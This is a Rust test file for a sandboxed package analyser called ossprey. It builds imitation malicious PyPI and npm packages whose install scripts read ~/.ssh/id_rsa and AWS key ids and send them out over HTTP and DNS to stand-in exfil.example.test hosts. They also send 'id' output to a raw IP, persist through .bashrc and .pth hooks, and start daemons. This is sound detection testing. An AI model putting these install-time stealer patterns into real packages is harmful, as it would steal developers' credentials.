//! Behaviour: harmless imitations of what malicious packages do, written here, run by
//! `ossprey analyze`, and the exact events the report's `dynamic` section must hold.
//!
//! Three packages cover the issue's behaviours, one analysis each (shared by the tests
//! that assert on it through a `OnceLock`, so every behaviour is its own test without
//! paying for a sandbox run per test):
//!
//! - a PyPI **sdist** whose `setup.py` steals `~/.ssh/id_rsa` over HTTP and
//!   `$AWS_ACCESS_KEY_ID` over DNS (hex in labels), sends `id` output to a raw IP
//!   (198.51.100.23:4444, the shape of a reverse shell without the shell), appends to
//!   `~/.bashrc`, drops a `.pth` file into the user site-packages, runs recon commands,
//!   and starts a double-forked daemon that checks in after a second; its module
//!   beacons at import time;
//! - a PyPI **wheel** (no code at install) shipping a `.pth` hook and a module that
//!   beacons at import time;
//! - an npm **tarball** whose `postinstall` does the sdist's install-time behaviours in
//!   Node, plus a second daemon that would act only after the phase is over; its
//!   `main` beacons when required.
//!
//! Each imitation must also get the verdict `malicious` with the behaviour findings and
//! categories of what it did (`*_verdict_*` tests), and four benign look-alikes must
//! stay `benign` with no behaviour finding at all: an npm `postinstall` printing a
//! thank-you; an npm `install` step that "builds a native addon" — the runtime has no C
//! compiler, so the build step is imitated by `node build.js` running `python3 -m
//! py_compile` and writing its output into the package's own `build/`; a `postinstall`
//! that only checks `process.platform`; a PyPI library that opens a socket only when
//! its function is called (its import must stay quiet).
//!
//! With honeytokens planted (`dynamic.honeytokens`), the stolen key and key id must be
//! the planted ones and the report must show the reads and the egress hits; without
//! them the packages send fixed fallbacks, and the tests say so.
//!
//! Nothing here is real malware: every "secret" is whatever the sandbox put in the
//! fake home or environment, every destination is a `.example.test` name or a
//! documentation address, the daemons only sleep and send a fixed string, and the
//! `.pth` hooks only touch a marker file in the fake home.
//!
//! Safety: the packages try to reach non-loopback addresses, so each analysis asserts
//! that every phase's network namespace had only `lo` (read from inside it by the
//! sinkhole's `configure`, which also refuses to run otherwise) before any other check.
//!
//! Every test runs on both sandbox backends (`NAME::native`, `NAME::gvisor`: the same
//! assertions, one analysis per package and backend); the gVisor variants print
//! `SKIP: <reason>` when runsc is missing or unusable.
//!
//! Needs root, user namespaces and the provisioned runtime; each test prints why it
//! skips otherwise. Run: `cargo test -p ossprey --test behaviour -- --nocapture`.

mod common;

use std::cell::Cell;
use std::path::Path;
use std::sync::OnceLock;

use base64::Engine as _;
use common::{analyze, assert_sealed, b64, report};
use ossprey_testkit::archives::{sha256_hex, tar_gz, zip_bytes};
use serde_json::{Value, json};

// ---------------------------------------------------------------------------------
// The imitation packages.
// ---------------------------------------------------------------------------------

/// `setup.py` of the sdist. pip runs `setup.py` several times (metadata, wheel build);
/// a marker in `/tmp` makes the behaviours happen once so the counts are exact.
const STEALER_SETUP_PY: &str = r#"import http.client, os, site, socket, subprocess, sys, time
from setuptools import setup

HOME = os.path.expanduser('~')
MARK = '/tmp/.imitation-stealer-ran'

# The daemon: checks in one second after it started, then idles.
DAEMON = '''# imitation-daemon
import socket, time
time.sleep(1)
s = socket.create_connection(('late.exfil.example.test', 9001), timeout=5)
s.sendall(b'DAEMON-CHECKIN')
s.close()
open('/tmp/.imitation-daemon-checked-in', 'w').close()
time.sleep(60)
'''

def steal():
    try:
        with open(os.path.join(HOME, '.ssh', 'id_rsa'), 'rb') as f:
            key = f.read()
    except OSError:
        key = b'NO-KEY'
    # Credential theft over HTTP.
    c = http.client.HTTPConnection('creds.exfil.example.test', 80, timeout=5)
    c.request('POST', '/upload?src=setup.py', body=key,
              headers={'Content-Type': 'application/octet-stream'})
    c.getresponse().read()
    c.close()
    # Credential theft over DNS: the AWS key id from the environment, hex, 30 bytes
    # per query in two 30-character labels, then the query's index.
    data = os.environ.get('AWS_ACCESS_KEY_ID', 'NO-AWS-KEY').encode().hex()
    for n, i in enumerate(range(0, len(data), 60)):
        chunk = data[i:i + 60]
        labels = '.'.join(chunk[j:j + 30] for j in range(0, len(chunk), 30))
        try:
            socket.gethostbyname('%s.%d.d.exfil.example.test' % (labels, n))
        except OSError:
            pass

def reverse_shell_like():
    out = subprocess.run(['id'], capture_output=True).stdout
    s = socket.create_connection(('198.51.100.23', 4444), timeout=5)
    s.sendall(out)
    s.close()

def recon():
    for argv in (['whoami'], ['uname', '-a'], ['hostname']):
        subprocess.run(argv, capture_output=True)

def persist():
    with open(os.path.join(HOME, '.bashrc'), 'a') as f:
        f.write('\n# imitation persistence\nexport IMITATION_PERSIST=1\n')
    sp = site.getusersitepackages()
    os.makedirs(sp, exist_ok=True)
    with open(os.path.join(sp, 'imitation_persist.pth'), 'w') as f:
        f.write("import os; open(os.path.expanduser('~/.imitation-pth-fired'), 'a').close()\n")

def daemonize():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            fd = os.open(os.devnull, os.O_RDWR)
            for i in (0, 1, 2):
                os.dup2(fd, i)
            os.execv(sys.executable, [sys.executable, '-c', DAEMON])
        os._exit(0)
    os.wait()
    # Keep the build (the phase's main process) alive until the daemon checked in
    # (bounded), so the check-in is captured however loaded the machine is.
    for _ in range(100):
        if os.path.exists('/tmp/.imitation-daemon-checked-in'):
            break
        time.sleep(0.1)

if not os.path.exists(MARK):
    open(MARK, 'w').close()
    steal()
    reverse_shell_like()
    recon()
    persist()
    daemonize()

setup(name='imitation-stealer', version='0.1.0', py_modules=['imitation_stealer'])
"#;

/// The sdist's module: an import-time beacon with the host name in the query.
const STEALER_MODULE: &str = r#"import socket, urllib.request
try:
    urllib.request.urlopen('http://beacon.example.test/b?h=' + socket.gethostname(), timeout=5).read()
except OSError:
    pass
"#;

fn stealer_sdist(dir: &Path) -> std::path::PathBuf {
    let pkg_info = "Metadata-Version: 2.1\nName: imitation-stealer\nVersion: 0.1.0\n";
    let bytes = tar_gz(&[
        (
            "imitation_stealer-0.1.0/setup.py",
            STEALER_SETUP_PY.as_bytes(),
        ),
        ("imitation_stealer-0.1.0/PKG-INFO", pkg_info.as_bytes()),
        (
            "imitation_stealer-0.1.0/imitation_stealer.py",
            STEALER_MODULE.as_bytes(),
        ),
    ]);
    let path = dir.join("imitation_stealer-0.1.0.tar.gz");
    std::fs::write(&path, bytes).unwrap();
    path
}

/// The wheel's `.pth` hook: site runs it in every later Python process.
const WHEEL_PTH: &str =
    "import os; open(os.path.expanduser('~/.imitation-wheel-pth-fired'), 'a').close()\n";

/// The wheel's package: an import-time beacon.
const WHEEL_INIT: &str = r#"import socket, urllib.request
try:
    urllib.request.urlopen('http://wheel-beacon.example.test/w?h=' + socket.gethostname(), timeout=5).read()
except OSError:
    pass
"#;

/// A `RECORD` line: path, `sha256=` urlsafe-base64 digest without padding, size.
fn record_line(path: &str, data: &[u8]) -> String {
    let hex = sha256_hex(data);
    let digest: Vec<u8> = (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
        .collect();
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(digest);
    format!("{path},sha256={b64},{}\n", data.len())
}

fn beacon_wheel(dir: &Path) -> std::path::PathBuf {
    let di = "imitation_beacon-0.1.0.dist-info";
    let metadata = "Metadata-Version: 2.1\nName: imitation-beacon\nVersion: 0.1.0\n";
    let wheel =
        "Wheel-Version: 1.0\nGenerator: ossprey-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
    let top_level = "imitation_beacon\n";
    let files: Vec<(String, &[u8])> = vec![
        ("imitation_beacon/__init__.py".into(), WHEEL_INIT.as_bytes()),
        ("imitation_beacon_hook.pth".into(), WHEEL_PTH.as_bytes()),
        (format!("{di}/METADATA"), metadata.as_bytes()),
        (format!("{di}/WHEEL"), wheel.as_bytes()),
        (format!("{di}/top_level.txt"), top_level.as_bytes()),
    ];
    let mut record: String = files.iter().map(|(p, d)| record_line(p, d)).collect();
    record.push_str(&format!("{di}/RECORD,,\n"));
    let mut entries: Vec<(&str, &[u8])> = files.iter().map(|(p, d)| (p.as_str(), *d)).collect();
    let record_path = format!("{di}/RECORD");
    entries.push((&record_path, record.as_bytes()));
    let path = dir.join("imitation_beacon-0.1.0-py3-none-any.whl");
    std::fs::write(&path, zip_bytes(&entries)).unwrap();
    path
}

/// The npm package's `postinstall` script (run by npm through `sh -c node install.js`).
const NPM_INSTALL_JS: &str = r#"const fs = require('fs'), os = require('os'), path = require('path');
const http = require('http'), net = require('net'), dns = require('dns'), cp = require('child_process');
const home = os.homedir();

// Daemons, double-forked through sh: one checks in after a second, while the
// postinstall still runs; the other would act only after 30 s, long after the phase.
const LATE = "/*imitation-daemon*/ setTimeout(() => { const s = require('net').connect(9001, 'late.exfil.example.test', () => s.end('DAEMON-CHECKIN', () => require('fs').writeFileSync('/tmp/.imitation-daemon-checked-in', ''))); s.on('error', () => {}); setTimeout(() => {}, 60000); }, 1000);";
const NEVER = "/*imitation-sleeper*/ setTimeout(() => { require('net').connect(9002, 'never.exfil.example.test').on('error', () => {}); }, 30000);";
for (const code of [LATE, NEVER]) {
  cp.spawn('sh', ['-c', 'node -e "$0" </dev/null >/dev/null 2>&1 &', code], { stdio: 'ignore' });
}

// Recon.
const out = {};
for (const argv of [['whoami'], ['uname', '-a'], ['hostname'], ['id']]) {
  try { out[argv[0]] = cp.execFileSync(argv[0], argv.slice(1)); } catch (e) { out[argv[0]] = Buffer.from(''); }
}

// Persistence.
fs.appendFileSync(path.join(home, '.bashrc'), '\n# imitation persistence\nexport IMITATION_PERSIST=1\n');

let key;
try { key = fs.readFileSync(path.join(home, '.ssh', 'id_rsa')); } catch (e) { key = Buffer.from('NO-KEY'); }

function post() {
  return new Promise((resolve) => {
    const req = http.request({ host: 'creds.exfil.example.test', port: 80, method: 'POST',
      path: '/upload?src=postinstall', headers: { 'content-type': 'application/octet-stream' } },
      (res) => { res.resume(); res.on('end', resolve); });
    req.on('error', resolve);
    req.end(key);
  });
}

// The AWS key id from the environment, hex, 30 bytes per query in two 30-character
// labels, then the query's index.
async function dnsExfil() {
  const data = Buffer.from(process.env.AWS_ACCESS_KEY_ID || 'NO-AWS-KEY').toString('hex');
  for (let i = 0; i * 60 < data.length; i++) {
    const chunk = data.slice(i * 60, i * 60 + 60);
    const labels = chunk.length > 30 ? `${chunk.slice(0, 30)}.${chunk.slice(30)}` : chunk;
    try { await dns.promises.lookup(`${labels}.${i}.d.exfil.example.test`, { family: 4 }); } catch (e) {}
  }
}

function reverseShellLike() {
  return new Promise((resolve) => {
    const s = net.connect(4444, '198.51.100.23', () => s.end(out.id));
    s.on('close', resolve);
    s.on('error', resolve);
  });
}

(async () => {
  await post();
  await dnsExfil();
  await reverseShellLike();
  // Keep the phase's main process alive until the first daemon checked in (bounded),
  // so the check-in is captured however loaded the machine is.
  for (let i = 0; i < 100 && !fs.existsSync('/tmp/.imitation-daemon-checked-in'); i++) {
    await new Promise((r) => setTimeout(r, 100));
  }
})();
"#;

/// The npm package's `main`: an import-time beacon.
const NPM_INDEX_JS: &str = r#"const http = require('http'), os = require('os');
http.get('http://beacon.example.test/n?h=' + encodeURIComponent(os.hostname()), (r) => r.resume()).on('error', () => {});
module.exports = { hello: () => 'hi' };
"#;

fn stealer_npm(dir: &Path) -> std::path::PathBuf {
    let manifest = json!({
        "name": "imitation-stealer-npm",
        "version": "1.0.0",
        "main": "index.js",
        "scripts": {"postinstall": "node install.js"}
    });
    let bytes = tar_gz(&[
        (
            "package/package.json",
            serde_json::to_vec_pretty(&manifest).unwrap().as_slice(),
        ),
        ("package/install.js", NPM_INSTALL_JS.as_bytes()),
        ("package/index.js", NPM_INDEX_JS.as_bytes()),
    ]);
    let path = dir.join("imitation-stealer-npm-1.0.0.tgz");
    std::fs::write(&path, bytes).unwrap();
    path
}

// ---------------------------------------------------------------------------------
// Benign look-alikes.
// ---------------------------------------------------------------------------------

/// An npm package (`package/…` entries) with `package.json` from `manifest`.
fn npm_tarball(
    dir: &Path,
    file: &str,
    manifest: Value,
    files: &[(&str, &str)],
) -> std::path::PathBuf {
    let manifest = serde_json::to_vec_pretty(&manifest).unwrap();
    let mut entries: Vec<(String, &[u8])> =
        vec![("package/package.json".into(), manifest.as_slice())];
    entries.extend(
        files
            .iter()
            .map(|(p, d)| (format!("package/{p}"), d.as_bytes())),
    );
    let refs: Vec<(&str, &[u8])> = entries.iter().map(|(p, d)| (p.as_str(), *d)).collect();
    let path = dir.join(file);
    std::fs::write(&path, tar_gz(&refs)).unwrap();
    path
}

/// `postinstall` that prints a thank-you.
fn thanks_npm(dir: &Path) -> std::path::PathBuf {
    npm_tarball(
        dir,
        "thanks-postinstall-1.0.0.tgz",
        json!({"name": "thanks-postinstall", "version": "1.0.0", "description": "says thanks",
               "main": "index.js",
               "scripts": {"postinstall": "echo 'Thank you for using thanks-postinstall!'"}}),
        &[("index.js", "module.exports = () => 'thanks';\n")],
    )
}

/// An `install` step building a "native addon" into the package's own `build/`.
/// The sandbox runtime has no C compiler (Debian minbase + python3/node only), so the
/// compiler is imitated by `python3 -m py_compile`, run by `node build.js` the way
/// node-gyp runs its tools.
const ADDON_BUILD_JS: &str = r#"const fs = require('fs'), path = require('path'), cp = require('child_process');
const out = path.join(__dirname, 'build', 'Release');
fs.mkdirSync(out, { recursive: true });
cp.execFileSync('python3', ['-m', 'py_compile', path.join(__dirname, 'gen', 'config.py')]);
fs.writeFileSync(path.join(out, 'addon.js'), 'module.exports = { add: (a, b) => a + b };\n');
console.log('built addon');
"#;

fn addon_npm(dir: &Path) -> std::path::PathBuf {
    npm_tarball(
        dir,
        "native-addon-lookalike-1.0.0.tgz",
        json!({"name": "native-addon-lookalike", "version": "1.0.0", "description": "adds",
               "main": "index.js", "scripts": {"install": "node build.js"}}),
        &[
            ("build.js", ADDON_BUILD_JS),
            ("gen/config.py", "FLAGS = ['-O2']\n"),
            (
                "index.js",
                "module.exports = require('./build/Release/addon.js');\n",
            ),
        ],
    )
}

/// `postinstall` that only looks at `process.platform`.
const PLATFORM_CHECK_JS: &str = r#"const os = require('os');
if (process.platform !== 'linux' && process.platform !== 'darwin') {
  console.log('unsupported platform ' + process.platform);
} else {
  console.log('prebuilt binary for ' + process.platform + '-' + os.arch() + ' is bundled');
}
"#;

fn platform_npm(dir: &Path) -> std::path::PathBuf {
    npm_tarball(
        dir,
        "platform-check-lookalike-1.0.0.tgz",
        json!({"name": "platform-check-lookalike", "version": "1.0.0", "description": "checks",
               "main": "index.js", "scripts": {"postinstall": "node check.js"}}),
        &[
            ("check.js", PLATFORM_CHECK_JS),
            (
                "index.js",
                "module.exports = { platform: process.platform };\n",
            ),
        ],
    )
}

/// A library whose socket opens only when `fetch()` is called.
const LAZY_SOCKET_PY: &str = r#"import socket

def fetch(host='api.example.test', port=80):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b'GET / HTTP/1.0\r\n\r\n')
    return s.recv(100)
"#;

fn lazy_socket_sdist(dir: &Path) -> std::path::PathBuf {
    let setup = "from setuptools import setup\nsetup(name='lazy-socket', version='1.0.0', py_modules=['lazy_socket'])\n";
    let pkg_info = "Metadata-Version: 2.1\nName: lazy-socket\nVersion: 1.0.0\nSummary: a client\n";
    let bytes = tar_gz(&[
        ("lazy_socket-1.0.0/setup.py", setup.as_bytes()),
        ("lazy_socket-1.0.0/PKG-INFO", pkg_info.as_bytes()),
        (
            "lazy_socket-1.0.0/lazy_socket.py",
            LAZY_SOCKET_PY.as_bytes(),
        ),
    ]);
    let path = dir.join("lazy_socket-1.0.0.tar.gz");
    std::fs::write(&path, bytes).unwrap();
    path
}

// ---------------------------------------------------------------------------------
// Running each package once.
// ---------------------------------------------------------------------------------

/// Runs `ossprey analyze` on the archive `make` writes, phases install and import;
/// checks the exit code, that both phases completed and that both were sealed.
fn run_analysis(runtime: &Path, make: fn(&Path) -> std::path::PathBuf, label: &str) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let archive = make(dir.path());
    let started = std::time::Instant::now();
    let out = analyze(
        runtime,
        &dir.path().join("cache"),
        &[
            archive.to_str().unwrap(),
            "--format",
            "json",
            "--phases",
            "install,import",
            "--phase-timeout",
            "30",
            "--sandbox",
            BACKEND.with(Cell::get),
        ],
    );
    let r = report(&out);
    for phase in ["install", "import"] {
        // Safety first: the namespace had nothing but lo.
        assert_sealed(&r["dynamic"][phase]);
    }
    assert_eq!(out.status.code(), Some(0), "{r:#}");
    eprintln!(
        "{label} ({}): install {} ms, import {} ms, whole run {:?}; honeytoken hits: {}",
        BACKEND.with(Cell::get),
        r["dynamic"]["install"]["duration_ms"],
        r["dynamic"]["import"]["duration_ms"],
        started.elapsed(),
        r["dynamic"]["honeytokens"]["hits"]
    );
    for phase in ["install", "import"] {
        assert_eq!(
            r["dynamic"][phase]["status"], "completed",
            "{label} {phase}: {:#}",
            r["dynamic"][phase]
        );
    }
    r
}

thread_local! {
    /// The sandbox backend of this test thread (`on_both_backends!` sets it).
    static BACKEND: Cell<&'static str> = const { Cell::new("native") };
}

/// One analysis per backend: `[native, gvisor]`.
type PerBackend = [OnceLock<Value>; 2];

fn backend_index() -> usize {
    usize::from(BACKEND.with(Cell::get) == "gvisor")
}

/// The runtime, or `None` (with the reason printed) when this test cannot run here:
/// no root/namespaces/runtime, or, for the gVisor variant, no usable runsc.
fn runtime_or_skip(test: &str) -> Option<std::path::PathBuf> {
    let runtime = common::runtime_dir_or_skip(test)?;
    if BACKEND.with(Cell::get) == "gvisor"
        && let Err(why) = ossprey_sandbox::gvisor::probe()
    {
        eprintln!("SKIP: {test} on gvisor: {why}");
        return None;
    }
    Some(runtime)
}

/// Define each test twice, `NAME::native` and `NAME::gvisor`, with the same body.
macro_rules! on_both_backends {
    ($(#[$attr:meta])* fn $name:ident() $body:block) => {
        mod $name {
            #[allow(unused_imports)]
            use super::*;
            fn body() $body
            #[test]
            fn native() {
                body()
            }
            #[test]
            fn gvisor() {
                BACKEND.with(|b| b.set("gvisor"));
                body()
            }
        }
    };
}

static SDIST: PerBackend = [const { OnceLock::new() }; 2];
static WHEEL: PerBackend = [const { OnceLock::new() }; 2];
static NPM: PerBackend = [const { OnceLock::new() }; 2];
static THANKS: PerBackend = [const { OnceLock::new() }; 2];
static ADDON: PerBackend = [const { OnceLock::new() }; 2];
static PLATFORM: PerBackend = [const { OnceLock::new() }; 2];
static LAZY: PerBackend = [const { OnceLock::new() }; 2];

fn sdist(test: &str) -> Option<&'static Value> {
    let runtime = runtime_or_skip(test)?;
    Some(SDIST[backend_index()].get_or_init(|| run_analysis(&runtime, stealer_sdist, "sdist")))
}

fn wheel(test: &str) -> Option<&'static Value> {
    let runtime = runtime_or_skip(test)?;
    Some(WHEEL[backend_index()].get_or_init(|| run_analysis(&runtime, beacon_wheel, "wheel")))
}

fn npm(test: &str) -> Option<&'static Value> {
    let runtime = runtime_or_skip(test)?;
    Some(NPM[backend_index()].get_or_init(|| run_analysis(&runtime, stealer_npm, "npm")))
}

// ---------------------------------------------------------------------------------
// Reading a phase.
// ---------------------------------------------------------------------------------

fn array<'a>(phase: &'a Value, key: &str) -> &'a [Value] {
    phase[key]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_else(|| panic!("no {key} array: {phase:#}"))
}

fn network<'a>(phase: &'a Value, key: &str) -> &'a [Value] {
    phase["network"][key]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_else(|| panic!("no network.{key} array: {phase:#}"))
}

/// The process that successfully executed exactly `argv`.
fn process_with_exec<'a>(phase: &'a Value, argv: &[&str]) -> &'a Value {
    array(phase, "processes")
        .iter()
        .find(|p| {
            p["execs"].as_array().is_some_and(|execs| {
                execs
                    .iter()
                    .any(|e| e["ok"] == true && e["argv"] == json!(argv))
            })
        })
        .unwrap_or_else(|| {
            panic!(
                "no process executed {argv:?}: {:#}",
                json!(array(phase, "processes"))
            )
        })
}

/// The process whose successful exec ran `program` (the base name of `argv[0]`) with
/// an argument containing `marker`.
fn process_with_arg<'a>(phase: &'a Value, program: &str, marker: &str) -> &'a Value {
    array(phase, "processes")
        .iter()
        .find(|p| {
            p["execs"].as_array().is_some_and(|execs| {
                execs.iter().any(|e| {
                    e["ok"] == true
                        && e["argv"][0]
                            .as_str()
                            .is_some_and(|a| a.rsplit('/').next() == Some(program))
                        && e["argv"].as_array().is_some_and(|a| {
                            a.iter()
                                .any(|s| s.as_str().is_some_and(|s| s.contains(marker)))
                        })
                })
            })
        })
        .unwrap_or_else(|| {
            panic!(
                "no process with an argument containing {marker:?}: {:#}",
                json!(array(phase, "processes"))
            )
        })
}

/// The file entry of a path in the fake home (`/home/<user>/<rel>`).
fn home_file<'a>(phase: &'a Value, rel: &str) -> Option<&'a Value> {
    array(phase, "files").iter().find(|f| {
        f["path"]
            .as_str()
            .and_then(|p| p.strip_prefix("/home/"))
            .and_then(|p| p.split_once('/'))
            .is_some_and(|(user, rest)| !user.is_empty() && rest == rel)
    })
}

fn expect_home_file<'a>(phase: &'a Value, rel: &str) -> &'a Value {
    home_file(phase, rel)
        .unwrap_or_else(|| panic!("no access to ~/{rel}: {:#}", json!(array(phase, "files"))))
}

/// The one sinkhole connection linked to `hostname`.
fn connection_to<'a>(phase: &'a Value, hostname: &str) -> &'a Value {
    let conns = network(phase, "connections");
    let matching: Vec<&Value> = conns.iter().filter(|c| c["hostname"] == hostname).collect();
    assert_eq!(
        matching.len(),
        1,
        "expected one connection to {hostname}: {:#}",
        json!(conns)
    );
    matching[0]
}

fn dns_names(phase: &Value) -> Vec<(String, String)> {
    network(phase, "dns")
        .iter()
        .map(|q| {
            (
                q["hostname"].as_str().unwrap_or_default().to_owned(),
                q["type"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

/// A host name the sandbox would give: not empty, DNS-safe, not one that gives a
/// sandbox away.
fn assert_plausible_hostname(h: &str) {
    assert!(
        !h.is_empty()
            && h.chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '.'),
        "odd host name {h:?}"
    );
    for tell in ["sandbox", "box", "analysis"] {
        assert!(
            !h.to_ascii_lowercase().contains(tell),
            "host name {h:?} gives the sandbox away"
        );
    }
}

// ---------------------------------------------------------------------------------
// Install-time behaviours, shared by the sdist and the npm package.
// ---------------------------------------------------------------------------------

/// `~/.ssh/id_rsa` read and POSTed to `creds.exfil.example.test/upload?src=<src>`.
/// Returns the body the sinkhole captured (the key, or `NO-KEY` when the fake home has
/// none).
fn assert_credential_theft_over_http(r: &Value, src: &str) {
    let install = &r["dynamic"]["install"];
    let key = expect_home_file(install, ".ssh/id_rsa");
    assert_eq!(key["read"], true, "{key:#}");
    assert_eq!(key["write"], false, "{key:#}");
    assert!(
        dns_names(install).contains(&("creds.exfil.example.test".into(), "A".into())),
        "{:#?}",
        dns_names(install)
    );
    let conn = connection_to(install, "creds.exfil.example.test");
    assert_eq!(conn["port"], 80, "{conn:#}");
    assert_eq!(conn["kind"], "http", "{conn:#}");
    let http = conn["http"].as_array().unwrap();
    assert_eq!(http.len(), 1, "{conn:#}");
    assert_eq!(http[0]["method"], "POST");
    assert_eq!(http[0]["path"], format!("/upload?src={src}"));
    assert_eq!(http[0]["host"], "creds.exfil.example.test");
    let body = b64(&http[0]["body_base64"]);
    assert_eq!(http[0]["body_len"], body.len() as u64);
    // The tracer saw the connect, linked to the name.
    let sockets = array(install, "sockets");
    assert!(
        sockets.iter().any(|s| s["op"] == "connect"
            && s["port"] == 80
            && s["hostnames"] == json!(["creds.exfil.example.test"])),
        "{sockets:#?}"
    );
    match planted(r, |p| {
        p["path"]
            .as_str()
            .is_some_and(|p| p.ends_with("/.ssh/id_rsa"))
    }) {
        Some(token) => {
            assert_eq!(
                key["succeeded"], true,
                "the planted key was readable: {key:#}"
            );
            let prefix = token["prefix"].as_str().unwrap();
            assert!(
                String::from_utf8_lossy(&body).contains(prefix),
                "the POST body is the planted key (token {prefix}…)"
            );
            expect_hit(r, "the read of ~/.ssh/id_rsa", |h| {
                h["how"] == "read"
                    && h["phase"] == "install"
                    && h["path"]
                        .as_str()
                        .is_some_and(|p| p.ends_with("/.ssh/id_rsa"))
            });
            expect_hit(r, "the key in the POST body", |h| {
                h["how"] == "egress"
                    && h["phase"] == "install"
                    && h["kind"] == token["kind"]
                    && h["channel"] == "http"
                    && h["location"] == "body"
                    && h["encoding"] == "raw"
                    && h["hostname"] == "creds.exfil.example.test"
                    && h["destination"]
                        .as_str()
                        .is_some_and(|d| d.ends_with(":80"))
            });
        }
        None => {
            eprintln!("NOTE: no honeytokens planted; the POST carries the fallback");
            assert_eq!(key["succeeded"], false, "{key:#}");
            assert_eq!(body, b"NO-KEY", "{conn:#}");
        }
    }
}

/// `$AWS_ACCESS_KEY_ID`, hex, in queries `<hex>.<hex>.<i>.d.exfil.example.test`,
/// reassembled from the sinkhole's DNS log; with honeytokens planted, the key id is the
/// planted one and the report proves its exfiltration over DNS.
fn assert_credential_theft_over_dns(r: &Value) {
    let install = &r["dynamic"]["install"];
    let mut chunks: Vec<(usize, String)> = dns_names(install)
        .into_iter()
        .filter(|(_, t)| t == "A")
        .filter_map(|(name, _)| {
            let rest = name.strip_suffix(".d.exfil.example.test")?;
            let (labels, index) = rest.rsplit_once('.')?;
            Some((index.parse().ok()?, labels.replace('.', "")))
        })
        .collect();
    chunks.sort();
    chunks.dedup();
    assert!(
        !chunks.is_empty(),
        "no exfiltration queries: {:#?}",
        dns_names(install)
    );
    assert_eq!(
        chunks.iter().map(|(i, _)| *i).collect::<Vec<_>>(),
        (0..chunks.len()).collect::<Vec<_>>(),
        "DNS exfiltration labels: {chunks:?}"
    );
    let hex: String = chunks.into_iter().map(|(_, h)| h).collect();
    let decoded: Vec<u8> = (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).expect("hex label"))
        .collect();
    let decoded = String::from_utf8(decoded).expect("the key id is text");
    match planted(r, |p| p["env"] == "AWS_ACCESS_KEY_ID") {
        Some(token) => {
            let prefix = token["prefix"].as_str().unwrap();
            assert!(
                decoded.starts_with(prefix) && decoded.starts_with("AKIA") && decoded.len() == 20,
                "DNS labels carry the planted key id {prefix}…: {decoded:?}"
            );
            expect_hit(r, "DNS exfiltration of AWS_ACCESS_KEY_ID", |h| {
                h["how"] == "egress"
                    && h["phase"] == "install"
                    && h["env"] == "AWS_ACCESS_KEY_ID"
                    && h["channel"] == "dns"
                    && h["encoding"] == "hex"
                    && h["hostname"]
                        .as_str()
                        .is_some_and(|n| n.ends_with(".0.d.exfil.example.test"))
            });
        }
        None => {
            eprintln!("NOTE: no honeytokens planted; the DNS labels carry the fallback");
            assert_eq!(decoded, "NO-AWS-KEY");
        }
    }
}

/// The planted token matching `pred`, when the report has honeytokens.
fn planted(r: &Value, pred: impl Fn(&Value) -> bool) -> Option<&Value> {
    r["dynamic"]["honeytokens"]["planted"]
        .as_array()?
        .iter()
        .find(|t| pred(t))
}

/// The honeytoken hit matching `pred` (fails with every hit shown otherwise).
fn expect_hit<'a>(r: &'a Value, what: &str, pred: impl Fn(&Value) -> bool) -> &'a Value {
    let hits = &r["dynamic"]["honeytokens"]["hits"];
    hits.as_array()
        .and_then(|h| h.iter().find(|h| pred(h)))
        .unwrap_or_else(|| panic!("no honeytoken hit for {what}: {hits:#}"))
}

/// `id` run, its output sent to 198.51.100.23:4444 by the process that ran it.
fn assert_reverse_shell_like(install: &Value) {
    let id = process_with_exec(install, &["id"]);
    let conns = network(install, "connections");
    let conn = conns
        .iter()
        .find(|c| c["address"] == "198.51.100.23" && c["port"] == 4444)
        .unwrap_or_else(|| panic!("no connection to 198.51.100.23:4444: {:#}", json!(conns)));
    assert!(
        conn.get("hostname").is_none(),
        "a raw IP has no name: {conn:#}"
    );
    assert_eq!(conn["kind"], "raw", "{conn:#}");
    let bytes = b64(&conn["bytes_prefix_base64"]);
    let text = String::from_utf8_lossy(&bytes);
    assert!(
        text.starts_with("uid=") && text.contains(" gid=") && text.ends_with('\n'),
        "the `id` output: {text:?}"
    );
    let sock = array(install, "sockets")
        .iter()
        .find(|s| s["op"] == "connect" && s["address"] == "198.51.100.23" && s["port"] == 4444)
        .unwrap_or_else(|| panic!("the tracer saw no connect to 198.51.100.23:4444"));
    assert_eq!(sock["family"], "inet");
    assert_eq!(
        sock["pid"], id["ppid"],
        "the process that ran `id` is the one that connected"
    );
}

/// whoami, uname -a, hostname (and id) from one parent, the package's process.
fn assert_recon(install: &Value) {
    let parents: Vec<&Value> = [&["whoami"][..], &["uname", "-a"], &["hostname"], &["id"]]
        .iter()
        .map(|argv| &process_with_exec(install, argv)["ppid"])
        .collect();
    assert!(
        parents.iter().all(|p| *p == parents[0]),
        "recon commands come from one process: {parents:?}"
    );
}

/// `~/.bashrc` appended to.
fn assert_bashrc_persistence(install: &Value) {
    let rc = expect_home_file(install, ".bashrc");
    assert_eq!(rc["write"], true, "{rc:#}");
    assert_eq!(rc["succeeded"], true, "{rc:#}");
    assert_eq!(rc["delete"], false, "{rc:#}");
}

/// The daemon (its exec has `marker` in an argument): checked in to
/// `late.exfil.example.test:9001` with `DAEMON-CHECKIN`, outlived the phase's main
/// process and was killed at the end of the phase.
fn assert_daemon_checked_in_and_outlived(install: &Value, program: &str, marker: &str) {
    let daemon = process_with_arg(install, program, marker);
    assert_eq!(daemon["outlived_main"], true, "{daemon:#}");
    assert_eq!(daemon["killed_at_end"], true, "{daemon:#}");
    let conn = connection_to(install, "late.exfil.example.test");
    assert_eq!(conn["port"], 9001);
    assert_eq!(b64(&conn["bytes_prefix_base64"]), b"DAEMON-CHECKIN");
    let sock = array(install, "sockets")
        .iter()
        .find(|s| s["op"] == "connect" && s["hostnames"] == json!(["late.exfil.example.test"]))
        .unwrap_or_else(|| panic!("the tracer saw no connect to the daemon's host"));
    assert_eq!(sock["pid"], daemon["pid"], "the daemon connected: {sock:#}");
}

